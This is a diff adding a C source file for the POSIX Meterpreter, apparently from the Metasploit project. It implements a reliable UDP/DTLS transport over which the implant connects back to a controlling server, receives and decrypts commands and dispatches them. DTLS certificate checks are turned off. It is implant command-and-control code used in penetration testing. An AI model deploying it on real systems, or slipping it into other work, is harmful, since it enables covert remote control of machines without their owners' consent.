@@ -0,0 +1,871 @@
+/*!
+ * @file server_transport_udp.c
+ * @brief Reliable UDP transport for the POSIX meterpreter.
+ * @details Packets are carried by the reliable datagram layer in rudp.c, either
+ *          in plain datagrams or, for \c dtls:// URLs, inside a DTLS session.
+ *          A worker thread owns the socket and the DTLS session: it hands
+ *          arrived datagrams to the reliable layer and runs its timers, and the
+ *          reliable layer sends through it. Packets that belong to a channel go
+ *          on a stream picked from the channel's ID and everything else goes on
+ *          stream zero, so a channel that loses a datagram only holds up itself.
+ */
+#include "metsrv.h"
+
+#include <netdb.h>
+#include <poll.h>
+#include <pthread.h>
+#include <strings.h>
+
+/*! @brief Size asked for the socket's send and receive buffers, so that a full window fits. */
+#define UDP_SOCKET_BUFFER        (1024 * 1024)
+/*! @brief Longest time, in milliseconds, that closing waits for queued packets to be acknowledged. */
+#define UDP_LINGER_TIME          2000
+
+/*! @brief The thread that does the transport's socket I/O. */
+typedef struct _UdpTransportWorker
+{
+	pthread_t thread;
+	int wake[2];                            ///< Pipe that is written to when the reliable layer has something to send.
+	volatile LONG stopping;                 ///< Set when the thread should exit.
+} UdpTransportWorker;
+
+/*!
+ * @brief Split a \c udp:// or \c dtls:// URL into its parts.
+ * @param url The URL to split.
+ * @param secure Receives an indication of whether the URL is a \c dtls:// one.
+ * @param host Buffer that receives the host name, without the brackets of an IPv6 address.
+ * @param port Buffer that receives the port.
+ * @param options Receives the options given in the query, \c cc, \c window and \c fec.
+ * @return Indication of whether the URL could be split.
+ * @remark Both buffers must be as large as the URL.
+ */
+static BOOL udp_parse_url(const char* url, BOOL* secure, char* host, char* port, RudpOptions* options)
+{
+	const char* start;
+	const char* end;
+	const char* colon;
+	const char* query;
+
+	memset(options, 0, sizeof(RudpOptions));
+
+	if (strncasecmp(url, "dtls://", 7) == 0)
+	{
+		*secure = TRUE;
+		start = url + 7;
+	}
+	else if (strncasecmp(url, "udp://", 6) == 0)
+	{
+		*secure = FALSE;
+		start = url + 6;
+	}
+	else
+	{
+		return FALSE;
+	}
+
+	end = start + strcspn(start, "/?");
+
+	if (*start == '[')
+	{
+		// IPv6 addresses are bracketed so that their colons aren't taken for the port
+		const char* close = memchr(start, ']', end - start);
+		if (close == NULL)
+		{
+			return FALSE;
+		}
+
+		memcpy(host, start + 1, close - start - 1);
+		host[close - start - 1] = '\0';
+		colon = close + 1 < end && close[1] == ':' ? close + 1 : NULL;
+	}
+	else
+	{
+		colon = memchr(start, ':', end - start);
+		memcpy(host, start, (colon ? colon : end) - start);
+		host[(colon ? colon : end) - start] = '\0';
+	}
+
+	// there's no well known port to fall back on
+	if (colon == NULL || colon + 1 >= end)
+	{
+		return FALSE;
+	}
+
+	memcpy(port, colon + 1, end - colon - 1);
+	port[end - colon - 1] = '\0';
+
+	for (query = strchr(end, '?'); query; query = strchr(query, '&'))
+	{
+		query++;
+		if (strncasecmp(query, "cc=fixed", 8) == 0)
+		{
+			options->congestion = RUDP_CC_FIXED;
+		}
+		else if (strncasecmp(query, "window=", 7) == 0)
+		{
+			options->window = (DWORD)strtoul(query + 7, NULL, 10);
+		}
+		else if (strncasecmp(query, "fec=", 4) == 0)
+		{
+			options->fec = (DWORD)strtoul(query + 4, NULL, 10);
+		}
+	}
+
+	return *host != '\0';
+}
+
+/*!
+ * @brief Send a datagram for the reliable layer.
+ * @param context Pointer to the UDP transport context.
+ * @param datagram Pointer to the datagram.
+ * @param length Number of bytes in \c datagram.
+ * @return Indication of success or failure.
+ * @remark This is only ever called on the worker thread, or once it has stopped.
+ */
+static DWORD udp_output(LPVOID context, PUCHAR datagram, DWORD length)
+{
+	UdpTransportContext* ctx = (UdpTransportContext*)context;
+	int written;
+
+	if (ctx->ssl)
+	{
+		written = SSL_write(ctx->ssl, datagram, length);
+	}
+	else
+	{
+		written = send(ctx->fd, datagram, length, MSG_NOSIGNAL);
+	}
+
+	return written == (int)length ? ERROR_SUCCESS : ERROR_WRITE_FAULT;
+}
+
+/*!
+ * @brief Wake the worker thread because the reliable layer has something to send.
+ * @param context Pointer to the UDP transport context.
+ */
+static VOID udp_notify(LPVOID context)
+{
+	UdpTransportContext* ctx = (UdpTransportContext*)context;
+	UCHAR wake = 0;
+
+	// a full pipe already has the worker on its way
+	if (ctx->worker && write(ctx->worker->wake[1], &wake, 1) < 0)
+	{
+		vdprintf("[UDP] wake pipe is full");
+	}
+}
+
+/*!
+ * @brief Read the next datagram off the socket, without waiting for one.
+ * @param ctx Pointer to the UDP transport context.
+ * @param buffer Buffer that receives the datagram.
+ * @param length Size of \c buffer.
+ * @return Number of bytes received, zero or less if there's nothing to read.
+ */
+static int udp_receive(UdpTransportContext* ctx, PUCHAR buffer, DWORD length)
+{
+	if (ctx->ssl)
+	{
+		return SSL_read(ctx->ssl, buffer, length);
+	}
+
+	return recv(ctx->fd, buffer, length, MSG_DONTWAIT);
+}
+
+/*!
+ * @brief The worker thread, which feeds datagrams to the reliable layer and runs its timers.
+ * @param param Pointer to the UDP transport context.
+ * @return Always \c NULL.
+ */
+static void* udp_worker_thread(void* param)
+{
+	UdpTransportContext* ctx = (UdpTransportContext*)param;
+	UdpTransportWorker* worker = ctx->worker;
+	UCHAR datagram[RUDP_MAX_DATAGRAM];
+	struct pollfd fds[2];
+	DWORD timeout;
+	int received;
+
+	fds[0].fd = ctx->fd;
+	fds[0].events = POLLIN;
+	fds[1].fd = worker->wake[0];
+	fds[1].events = POLLIN;
+
+	while (!worker->stopping)
+	{
+		timeout = rudp_tick(ctx->connection);
+
+		if (poll(fds, 2, (int)timeout) <= 0)
+		{
+			continue;
+		}
+
+		if (fds[1].revents & POLLIN)
+		{
+			while (read(worker->wake[0], datagram, sizeof(datagram)) > 0)
+			{
+			}
+		}
+
+		if (fds[0].revents & (POLLIN | POLLERR))
+		{
+			while ((received = udp_receive(ctx, datagram, sizeof(datagram))) > 0)
+			{
+				rudp_input(ctx->connection, datagram, (DWORD)received);
+			}
+		}
+	}
+
+	return NULL;
+}
+
+/*!
+ * @brief Start the worker thread.
+ * @param ctx Pointer to the UDP transport context.
+ * @return Indication of success or failure.
+ */
+static BOOL udp_start_worker(UdpTransportContext* ctx)
+{
+	UdpTransportWorker* worker = (UdpTransportWorker*)calloc(1, sizeof(UdpTransportWorker));
+
+	if (worker == NULL)
+	{
+		return FALSE;
+	}
+
+	if (pipe(worker->wake) != 0)
+	{
+		free(worker);
+		return FALSE;
+	}
+
+	fcntl(worker->wake[0], F_SETFD, FD_CLOEXEC);
+	fcntl(worker->wake[1], F_SETFD, FD_CLOEXEC);
+	fcntl(worker->wake[0], F_SETFL, fcntl(worker->wake[0], F_GETFL) | O_NONBLOCK);
+	fcntl(worker->wake[1], F_SETFL, fcntl(worker->wake[1], F_GETFL) | O_NONBLOCK);
+
+	ctx->worker = worker;
+
+	if (pthread_create(&worker->thread, NULL, udp_worker_thread, ctx) != 0)
+	{
+		dprintf("[UDP] failed to start the worker thread");
+		close(worker->wake[0]);
+		close(worker->wake[1]);
+		ctx->worker = NULL;
+		free(worker);
+		return FALSE;
+	}
+
+	return TRUE;
+}
+
+/*!
+ * @brief Stop the worker thread and wait for it to exit.
+ * @param ctx Pointer to the UDP transport context.
+ */
+static VOID udp_stop_worker(UdpTransportContext* ctx)
+{
+	UdpTransportWorker* worker = ctx->worker;
+
+	if (worker == NULL)
+	{
+		return;
+	}
+
+	worker->stopping = TRUE;
+	udp_notify(ctx);
+	pthread_join(worker->thread, NULL);
+
+	close(worker->wake[0]);
+	close(worker->wake[1]);
+	ctx->worker = NULL;
+	free(worker);
+}
+
+/*!
+ * @brief Negotiate DTLS on the connected socket.
+ * @param ctx Pointer to the UDP transport context.
+ * @param wait Number of seconds to allow for the handshake.
+ * @return Indication of success or failure.
+ * @remark The socket is non-blocking, so the handshake's retransmissions are driven from here.
+ */
+static BOOL udp_negotiate_dtls(UdpTransportContext* ctx, DWORD wait)
+{
+	int deadline = current_unix_timestamp() + (int)wait;
+	struct sockaddr_storage peer;
+	socklen_t peerLength = sizeof(peer);
+	struct pollfd fds;
+	struct timeval tv;
+	BIO* bio;
+	int result;
+	int timeout;
+
+	if ((ctx->ctx = SSL_CTX_new(DTLSv1_client_method())) == NULL
+		|| (ctx->ssl = SSL_new(ctx->ctx)) == NULL
+		|| (bio = BIO_new_dgram(ctx->fd, BIO_NOCLOSE)) == NULL)
+	{
+		return FALSE;
+	}
+
+	// without the peer's address the BIO would send to an empty one rather than use the connected socket
+	getpeername(ctx->fd, (struct sockaddr*)&peer, &peerLength);
+	BIO_ctrl(bio, BIO_CTRL_DGRAM_SET_CONNECTED, 0, &peer);
+
+	SSL_set_verify(ctx->ssl, SSL_VERIFY_NONE, NULL);
+	SSL_set_bio(ctx->ssl, bio, bio);
+
+	fds.fd = ctx->fd;
+	fds.events = POLLIN;
+
+	while ((result = SSL_connect(ctx->ssl)) != 1)
+	{
+		if (SSL_get_error(ctx->ssl, result) != SSL_ERROR_WANT_READ || current_unix_timestamp() >= deadline)
+		{
+			dprintf("[UDP] DTLS handshake failed, error %d", SSL_get_error(ctx->ssl, result));
+			return FALSE;
+		}
+
+		timeout = 1000;
+		if (DTLSv1_get_timeout(ctx->ssl, &tv))
+		{
+			timeout = tv.tv_sec * 1000 + tv.tv_usec / 1000;
+		}
+
+		if (poll(&fds, 1, timeout) == 0)
+		{
+			DTLSv1_handle_timeout(ctx->ssl);
+		}
+	}
+
+	dprintf("[UDP] DTLS negotiated");
+	return TRUE;
+}
+
+/*!
+ * @brief Close the current connection attempt, or the connection.
+ * @param remote Pointer to the remote instance.
+ * @param linger Indication of whether to give queued packets a chance to be acknowledged first.
+ */
+static VOID udp_teardown(Remote* remote, BOOL linger)
+{
+	UdpTransportContext* ctx = (UdpTransportContext*)remote->transport->ctx;
+	DWORD waited;
+
+	if (ctx->connection)
+	{
+		for (waited = 0; linger && waited < UDP_LINGER_TIME && rudp_state(ctx->connection) == RUDP_STATE_ESTABLISHED
+			&& rudp_unacked(ctx->connection); waited += 10)
+		{
+			usleep(10000);
+		}
+
+		// the worker goes first, the FIN is sent from this thread once it no longer uses the socket
+		udp_stop_worker(ctx);
+		rudp_close(ctx->connection);
+		rudp_destroy(ctx->connection);
+		ctx->connection = NULL;
+	}
+
+	if (ctx->ssl)
+	{
+		SSL_free(ctx->ssl);
+		ctx->ssl = NULL;
+	}
+
+	if (ctx->ctx)
+	{
+		SSL_CTX_free(ctx->ctx);
+		ctx->ctx = NULL;
+	}
+
+	if (ctx->fd)
+	{
+		closesocket(ctx->fd);
+		ctx->fd = 0;
+	}
+}
+
+/*!
+ * @brief Make one attempt at connecting to the server.
+ * @param remote Pointer to the remote instance.
+ * @param host Name or address of the server.
+ * @param port The server's port.
+ * @param options Pointer to the reliable layer's options.
+ * @return Indication of success or failure. On failure, whatever was set up is left for \c udp_teardown.
+ * @remark The attempt gives the server the transport's retry wait to answer.
+ */
+static BOOL udp_connect(Remote* remote, const char* host, const char* port, RudpOptions* options)
+{
+	UdpTransportContext* ctx = (UdpTransportContext*)remote->transport->ctx;
+	DWORD wait = remote->transport->timeouts.retry_wait ? remote->transport->timeouts.retry_wait : 1;
+	struct addrinfo hints = { 0 };
+	struct addrinfo* addresses;
+	struct addrinfo* address;
+	int size = UDP_SOCKET_BUFFER;
+	DWORD waited;
+
+	hints.ai_family = AF_UNSPEC;
+	hints.ai_socktype = SOCK_DGRAM;
+	hints.ai_protocol = IPPROTO_UDP;
+
+	// the name is resolved on every attempt, it may only resolve once the network is up
+	if (getaddrinfo(host, port, &hints, &addresses) != 0)
+	{
+		dprintf("[UDP] failed to resolve %s", host);
+		return FALSE;
+	}
+
+	for (address = addresses; address != NULL && ctx->fd == 0; address = address->ai_next)
+	{
+		SOCKET socketHandle = socket(address->ai_family, SOCK_DGRAM, IPPROTO_UDP);
+		if (socketHandle == INVALID_SOCKET)
+		{
+			continue;
+		}
+
+		if (connect(socketHandle, address->ai_addr, (int)address->ai_addrlen) == SOCKET_ERROR)
+		{
+			closesocket(socketHandle);
+			continue;
+		}
+
+		ctx->fd = socketHandle;
+	}
+
+	freeaddrinfo(addresses);
+
+	if (ctx->fd == 0)
+	{
+		return FALSE;
+	}
+
+	fcntl(ctx->fd, F_SETFD, FD_CLOEXEC);
+	fcntl(ctx->fd, F_SETFL, fcntl(ctx->fd, F_GETFL) | O_NONBLOCK);
+	setsockopt(ctx->fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof(size));
+	setsockopt(ctx->fd, SOL_SOCKET, SO_RCVBUF, &size, sizeof(size));
+
+	if (ctx->secure && !udp_negotiate_dtls(ctx, wait))
+	{
+		return FALSE;
+	}
+
+	if ((ctx->connection = rudp_create(options, FALSE, udp_output, udp_notify, ctx)) == NULL
+		|| !udp_start_worker(ctx))
+	{
+		return FALSE;
+	}
+
+	for (waited = 0; waited < wait * 1000; waited += 50)
+	{
+		if (rudp_state(ctx->connection) == RUDP_STATE_ESTABLISHED)
+		{
+			dprintf("[UDP] connected to %s port %s", host, port);
+			return TRUE;
+		}
+		usleep(50000);
+	}
+
+	dprintf("[UDP] no answer from %s port %s", host, port);
+	return FALSE;
+}
+
+/*!
+ * @brief Transmit a packet over the reliable UDP connection _and_ destroy it.
+ * @param remote Pointer to the \c Remote instance.
+ * @param packet Pointer to the \c Packet that is to be sent.
+ * @param completion Pointer to the completion routines to process.
+ * @return An indication of the result of processing the transmission request.
+ * @remark The packet is only queued, the worker thread sends it. That is why this
+ *         transport has no need for the outbound pipeline.
+ */
+static DWORD packet_transmit_via_udp(Remote* remote, Packet* packet, PacketRequestCompletion* completion)
+{
+	UdpTransportContext* ctx = (UdpTransportContext*)remote->transport->ctx;
+	CryptoContext* crypto;
+	Tlv requestId;
+	PUCHAR frame = NULL;
+	DWORD channelId;
+	DWORD stream;
+	DWORD res;
+
+	// If the packet does not already have a request identifier, create one for it
+	if (packet_get_tlv_string(packet, TLV_TYPE_REQUEST_ID, &requestId) != ERROR_SUCCESS)
+	{
+		DWORD index;
+		CHAR rid[32];
+
+		rid[sizeof(rid)-1] = 0;
+
+		for (index = 0; index < sizeof(rid)-1; index++)
+		{
+			rid[index] = (rand() % 0x5e) + 0x21;
+		}
+
+		packet_add_tlv_string(packet, TLV_TYPE_REQUEST_ID, rid);
+	}
+
+	// If a completion routine was supplied and the packet has a request
+	// identifier, insert the completion routine into the list
+	if ((completion) &&
+		(packet_get_tlv_string(packet, TLV_TYPE_REQUEST_ID, &requestId) == ERROR_SUCCESS))
+	{
+		packet_add_completion_handler(remote, (LPCSTR)requestId.buffer, completion);
+	}
+
+	recorder_packet(remote, RECORDER_DIRECTION_OUTBOUND, packet);
+
+	// the stream has to be picked before the payload is encrypted, and a response
+	// without a channel ID, such as the one to a close, goes with its request's channel
+	if ((channelId = packet_get_tlv_value_uint(packet, TLV_TYPE_CHANNEL_ID)) == 0)
+	{
+		channelId = packet->channelId;
+	}
+	stream = channelId ? 1 + channelId % (RUDP_STREAMS - 1) : 0;
+
+	// If the endpoint has a cipher established and this is not a plaintext
+	// packet, we encrypt
+	crypto = remote_get_cipher(remote);
+	if ((packet_get_type(packet) == PACKET_TLV_TYPE_PLAIN_REQUEST) ||
+		(packet_get_type(packet) == PACKET_TLV_TYPE_PLAIN_RESPONSE))
+	{
+		crypto = NULL;
+	}
+
+	do
+	{
+		if (crypto)
+		{
+			PUCHAR origPayload = packet->payload;
+
+			if ((res = crypto->handlers.encrypt(crypto, packet->payload,
+				packet->payloadLength, &packet->payload,
+				&packet->payloadLength)) != ERROR_SUCCESS)
+			{
+				break;
+			}
+
+			// Destroy the original payload as we no longer need it
+			free(origPayload);
+
+			// Update the header length
+			packet->header.length = htonl(packet->payloadLength + sizeof(TlvHeader));
+		}
+
+		if ((frame = (PUCHAR)malloc(sizeof(TlvHeader) + packet->payloadLength)) == NULL)
+		{
+			res = ERROR_NOT_ENOUGH_MEMORY;
+			break;
+		}
+
+		memcpy(frame, &packet->header, sizeof(TlvHeader));
+		memcpy(frame + sizeof(TlvHeader), packet->payload, packet->payloadLength);
+
+		res = rudp_send(ctx->connection, stream, frame, sizeof(TlvHeader) + packet->payloadLength);
+	} while (0);
+
+	free(frame);
+	packet_destroy(packet);
+
+	SetLastError(res);
+	return res;
+}
+
+/*!
+ * @brief Turn a message from the reliable layer into a packet.
+ * @param remote Pointer to the \c Remote instance.
+ * @param message The message, which is handed over to the packet as its payload.
+ * @param messageLength Number of bytes in \c message.
+ * @param packet Receives the packet.
+ * @return Indication of success or failure.
+ */
+static DWORD udp_message_to_packet(Remote* remote, PUCHAR message, DWORD messageLength, Packet** packet)
+{
+	CryptoContext* crypto;
+	Packet* localPacket;
+	TlvHeader header;
+	PUCHAR payload = message;
+	ULONG payloadLength = messageLength;
+	DWORD res;
+
+	if (payloadLength < sizeof(TlvHeader))
+	{
+		free(payload);
+		return ERROR_INVALID_DATA;
+	}
+
+	memcpy(&header, payload, sizeof(TlvHeader));
+	if (ntohl(header.length) != payloadLength)
+	{
+		dprintf("[UDP] message of %u bytes holds a packet of %u", payloadLength, ntohl(header.length));
+		free(payload);
+		return ERROR_INVALID_DATA;
+	}
+
+	payloadLength -= sizeof(TlvHeader);
+	memmove(payload, payload + sizeof(TlvHeader), payloadLength);
+
+	if ((localPacket = (Packet*)calloc(1, sizeof(Packet))) == NULL)
+	{
+		free(payload);
+		return ERROR_NOT_ENOUGH_MEMORY;
+	}
+
+	localPacket->header.length = header.length;
+	localPacket->header.type = header.type;
+
+	// If the connection has an established cipher and this packet is not
+	// plaintext, decrypt
+	if ((crypto = remote_get_cipher(remote)) &&
+		(packet_get_type(localPacket) != PACKET_TLV_TYPE_PLAIN_REQUEST) &&
+		(packet_get_type(localPacket) != PACKET_TLV_TYPE_PLAIN_RESPONSE))
+	{
+		PUCHAR origPayload = payload;
+
+		if ((res = crypto->handlers.decrypt(crypto, origPayload, payloadLength, &payload, &payloadLength)) != ERROR_SUCCESS)
+		{
+			free(origPayload);
+			free(localPacket);
+			return res;
+		}
+
+		// We no longer need the encrypted payload
+		free(origPayload);
+	}
+
+	localPacket->payload = payload;
+	localPacket->payloadLength = payloadLength;
+
+	recorder_packet(remote, RECORDER_DIRECTION_INBOUND, localPacket);
+
+	*packet = localPacket;
+	return ERROR_SUCCESS;
+}
+
+/*!
+ * @brief The servers main dispatch loop for incoming requests using reliable UDP.
+ * @param remote Pointer to the remote endpoint for this server connection.
+ * @param dispatchThread Pointer to the main dispatch thread.
+ * @returns Indication of success or failure.
+ */
+static BOOL server_dispatch_udp(Remote* remote, THREAD* dispatchThread)
+{
+	UdpTransportContext* ctx = (UdpTransportContext*)remote->transport->ctx;
+	BOOL running = TRUE;
+	LONG result = ERROR_SUCCESS;
+	Packet* packet = NULL;
+	PUCHAR message;
+	DWORD messageLength;
+
+	dprintf("[DISPATCH] entering server_dispatch_udp( 0x%08X )", remote);
+
+	// Bring up the scheduler subsystem.
+	result = scheduler_initialize(remote);
+	if (result != ERROR_SUCCESS)
+	{
+		return result;
+	}
+
+	while (running)
+	{
+		if (event_poll(dispatchThread->sigterm, 0))
+		{
+			dprintf("[DISPATCH] server dispatch thread signaled to terminate...");
+			break;
+		}
+
+		// the reliable layer keeps the connection alive, and closes it once the server stops answering
+		result = rudp_receive(ctx->connection, &message, &messageLength, 500);
+		if (result != ERROR_SUCCESS)
+		{
+			dprintf("[DISPATCH] rudp_receive returned %d, exiting dispatcher...", result);
+			break;
+		}
+
+		if (message == NULL)
+		{
+			continue;
+		}
+
+		result = udp_message_to_packet(remote, message, messageLength, &packet);
+		if (result != ERROR_SUCCESS)
+		{
+			dprintf("[DISPATCH] packet_receive returned %d, exiting dispatcher...", result);
+			break;
+		}
+
+		remote->transport->comms_last_packet = current_unix_timestamp();
+		running = command_handle(remote, packet);
+		dprintf("[DISPATCH] command_process result: %s", (running ? "continue" : "stop"));
+	}
+
+	dprintf("[DISPATCH] calling scheduler_destroy...");
+	scheduler_destroy(remote);
+
+	dprintf("[DISPATCH] calling command_join_threads...");
+	command_join_threads(remote);
+
+	dprintf("[DISPATCH] leaving server_dispatch_udp.");
+	return result;
+}
+
+/*!
+ * @brief Connect to the server, retrying until the transport's retry settings run out.
+ * @param remote Pointer to the remote instance with the UDP transport details wired in.
+ * @param sock The socket FD passed to metsrv, which a UDP transport doesn't use.
+ * @return Indication of success or failure.
+ */
+static BOOL configure_udp_connection(Remote* remote, SOCKET sock)
+{
+	UdpTransportContext* ctx = (UdpTransportContext*)remote->transport->ctx;
+	Transport* transport = remote->transport;
+	size_t size = strlen(transport->url) + 1;
+	char* buffer = (char*)malloc(size * 2);
+	char* host = buffer;
+	char* port = buffer + size;
+	RudpOptions options;
+	int start = current_unix_timestamp();
+	int attempt;
+	BOOL success = FALSE;
+
+	transport->start_time = current_unix_timestamp();
+	transport->comms_last_packet = current_unix_timestamp();
+
+	do
+	{
+		if (buffer == NULL || !udp_parse_url(transport->url, &ctx->secure, host, port, &options))
+		{
+			dprintf("[UDP] invalid url %s", transport->url);
+			break;
+		}
+
+		if (ctx->secure)
+		{
+			dprintf("[UDP] Initializing SSL...");
+			if (server_initialize_ssl(remote))
+			{
+				dprintf("[UDP] SSL failed to initialize");
+				break;
+			}
+		}
+
+		do
+		{
+			attempt = current_unix_timestamp();
+			if (udp_connect(remote, host, port, &options))
+			{
+				success = TRUE;
+				break;
+			}
+
+			udp_teardown(remote, FALSE);
+
+			// has our session expired?
+			if (current_unix_timestamp() >= transport->expiration_end)
+			{
+				break;
+			}
+
+			// an attempt that failed straight away, say on a refused handshake, still waits before the next one
+			if (current_unix_timestamp() - attempt < (int)transport->timeouts.retry_wait)
+			{
+				dprintf("[UDP] Connection failed, sleeping for %u s", transport->timeouts.retry_wait);
+				sleep(transport->timeouts.retry_wait - (current_unix_timestamp() - attempt));
+			}
+		} while (((DWORD)current_unix_timestamp() - (DWORD)start) < transport->timeouts.retry_total);
+
+		if (!success && ctx->secure)
+		{
+			server_shutdown_ssl(remote);
+		}
+	} while (0);
+
+	free(buffer);
+	return success;
+}
+
+/*!
+ * @brief Close the connection, after giving queued packets a chance to be delivered.
+ * @param remote Pointer to the remote instance.
+ * @return Indication of success or failure.
+ */
+static BOOL transport_deinit_udp(Remote* remote)
+{
+	UdpTransportContext* ctx = (UdpTransportContext*)remote->transport->ctx;
+	BOOL secure = ctx->connection && ctx->secure;
+
+	udp_teardown(remote, TRUE);
+
+	if (secure)
+	{
+		server_shutdown_ssl(remote);
+	}
+
+	return TRUE;
+}
+
+/*!
+ * @brief Destroy the UDP transport.
+ * @param remote Pointer to the remote instance whose transport is destroyed.
+ */
+static void transport_destroy_udp(Remote* remote)
+{
+	if (remote && remote->transport && (remote->transport->type == METERPRETER_TRANSPORT_UDP
+		|| remote->transport->type == METERPRETER_TRANSPORT_DTLS))
+	{
+		dprintf("[TRANS UDP] Destroying udp transport for url %s", remote->transport->url);
+		SAFE_FREE(remote->transport->url);
+		SAFE_FREE(remote->transport->ctx);
+		SAFE_FREE(remote->transport);
+	}
+}
+
+/*!
+ * @brief Get the socket from the transport.
+ * @param transport Pointer to the UDP transport containing the socket.
+ * @return The current transport socket FD, if any, or zero.
+ */
+static SOCKET transport_get_socket_udp(Transport* transport)
+{
+	if (transport && (transport->type == METERPRETER_TRANSPORT_UDP || transport->type == METERPRETER_TRANSPORT_DTLS))
+	{
+		return ((UdpTransportContext*)transport->ctx)->fd;
+	}
+
+	return 0;
+}
+
+/*!
+ * @brief Creates a new reliable UDP transport instance.
+ * @param url The \c udp:// or \c dtls:// URL to connect to.
+ * @param timeouts The timeout values to use for this transport.
+ * @return Pointer to the newly configured/created UDP transport instance.
+ */
+Transport* transport_create_udp(char* url, TimeoutSettings* timeouts)
+{
+	Transport* transport = (Transport*)malloc(sizeof(Transport));
+	UdpTransportContext* ctx = (UdpTransportContext*)malloc(sizeof(UdpTransportContext));
+
+	dprintf("[TRANS UDP] Creating udp transport for url %s", url);
+
+	memset(transport, 0, sizeof(Transport));
+	memset(ctx, 0, sizeof(UdpTransportContext));
+
+	memcpy(&transport->timeouts, timeouts, sizeof(transport->timeouts));
+
+	ctx->secure = strncasecmp(url, "dtls://", 7) == 0;
+
+	transport->type = ctx->secure ? METERPRETER_TRANSPORT_DTLS : METERPRETER_TRANSPORT_UDP;
+	transport->url = strdup(url);
+	transport->packet_transmit = packet_transmit_via_udp;
+	transport->transport_init = configure_udp_connection;
+	transport->transport_deinit = transport_deinit_udp;
+	transport->transport_destroy = transport_destroy_udp;
+	transport->server_dispatch = server_dispatch_udp;
+	transport->get_socket = transport_get_socket_udp;
+	transport->ctx = ctx;
+	transport->expiration_end = current_unix_timestamp() + transport->timeouts.expiry;
+	transport->start_time = current_unix_timestamp();
+	transport->comms_last_packet = current_unix_timestamp();
+
+	return transport;
+}